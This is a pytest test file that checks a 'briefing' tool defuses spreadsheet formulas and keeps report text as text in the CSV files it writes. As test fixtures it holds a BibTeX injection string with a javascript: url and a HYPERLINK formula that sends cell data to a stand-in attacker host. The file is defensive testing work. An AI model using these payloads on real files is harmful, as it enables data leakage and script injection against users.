"""Every input of `briefing new` and `briefing suggest-themes` is untrusted: what they write keeps a report's text as text."""

from __future__ import annotations

import csv
from pathlib import Path

from briefing import load_dataset
from briefing.__main__ import main
from briefing.paths import PROJECT_ROOT
from briefing.suggest import REVIEW_FILE

SANDBANK_HTML = PROJECT_ROOT / "tests" / "fixtures" / "reports" / "sandbank-2027.html"
SANDBANK = SANDBANK_HTML.with_suffix(".txt")
#: The reproduced attack: a heading that closes the BibTeX title and opens a url field of its own.
CLOSING_HEADING = "X}, url = {javascript:alert(1)}, howpublished = {x"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"Click")'


def new_from(tmp_path: Path, report: Path | str, capsys) -> tuple[int, str, Path]:
    """Run `briefing new` on a report into tmp_path/draft; return the exit code, the error output and the folder."""
    out = tmp_path / "draft"
    code = main(["new", str(report), str(out)])
    return code, capsys.readouterr().err, out


def html_report(tmp_path: Path, heading: str) -> Path:
    """Write the made-up HTML report with another first heading."""
    page = SANDBANK_HTML.read_text(encoding="utf-8").replace(
        "<h1>Sandbank Coastal Workshop 2027</h1>", f"<h1>{heading.replace('&', '&amp;').replace('<', '&lt;')}</h1>"
    )
    path = tmp_path / "report.html"
    path.write_text(page, encoding="utf-8")
    return path


def text_report(tmp_path: Path, text: str, name: str = "report.txt") -> Path:
    """Write a plain-text report."""
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def raw_rows(path: Path) -> list[dict[str, str]]:
    """Read a CSV file's cells exactly as a spreadsheet program receives them."""
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


# 2. Formulas: defused in every CSV file the tools write, read back as written


def formula_report(tmp_path: Path) -> Path:
    """Write a report whose speaker's role is a spreadsheet formula and whose passage has a line beginning with '-'."""
    return text_report(
        tmp_path,
        "Intro: we met on 4 May 2027.\n\n"
        f"Dr. Ann Lee, {FORMULA}, Invented Institute\n\n"
        "Dr. Ann Lee speaks.\n\n"
        "-harbour clusters and regional innovation strategies decide the region's future.\n\n"
        "Dr. Bo Kim, Mayor of Sandbank\n\n"
        "Dr. Bo Kim says the tidal energy cluster needs patient capital.\n",
    )


def test_the_draft_contributions_csv_defuses_formulas_and_loads_as_written(tmp_path, capsys):
    """A report's formula is written as text for a spreadsheet ("'=...") and the loader reads back the report's words."""
    code, err, out = new_from(tmp_path, formula_report(tmp_path), capsys)
    assert code == 0, err
    raw = raw_rows(out / "contributions.csv")
    assert raw[0]["role"] == "'" + FORMULA
    assert not [cell for row in raw for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert load_dataset(out).contribution["lee"].role == FORMULA


def test_an_editors_summary_beginning_with_a_dash_still_loads_as_written(tmp_path, capsys):
    """A summary the editor writes with a leading '-' or '=' (defused by a spreadsheet or not) loads unchanged."""
    code, err, out = new_from(tmp_path, SANDBANK, capsys)
    assert code == 0, err
    path = out / "contributions.csv"
    rows = raw_rows(path)
    rows[0]["summary"], rows[1]["summary"] = "'- According to the report, tides.", "= According to the report, ebb."
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
    ds = load_dataset(out)
    assert [ds.contributions[0].summary, ds.contributions[1].summary] == [
        "- According to the report, tides.",
        "= According to the report, ebb.",
    ]


def test_the_review_file_and_accepted_links_defuse_formulas_and_keep_the_evidence(tmp_path, capsys):
    """Evidence beginning with '-' is defused in theme_suggestions.csv and contribution_themes.csv, and accepted verbatim."""
    code, err, out = new_from(tmp_path, formula_report(tmp_path), capsys)
    assert code == 0, err
    assert main(["suggest-themes", str(out), "--threshold", "0.01"]) == 0
    rows = raw_rows(out / REVIEW_FILE)
    dashed = [r for r in rows if r["evidence"].startswith("'-harbour")]
    assert dashed, rows
    assert not [cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    dashed[0]["decision"], dashed[0]["about_ruhr"] = "accept", "no"
    with (out / REVIEW_FILE).open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
    assert main(["accept-themes", str(out)]) == 0, capsys.readouterr().err
    assert raw_rows(out / "contribution_themes.csv")[0]["evidence"] == dashed[0]["evidence"]
    assert load_dataset(out).links[0].evidence == dashed[0]["evidence"][1:]
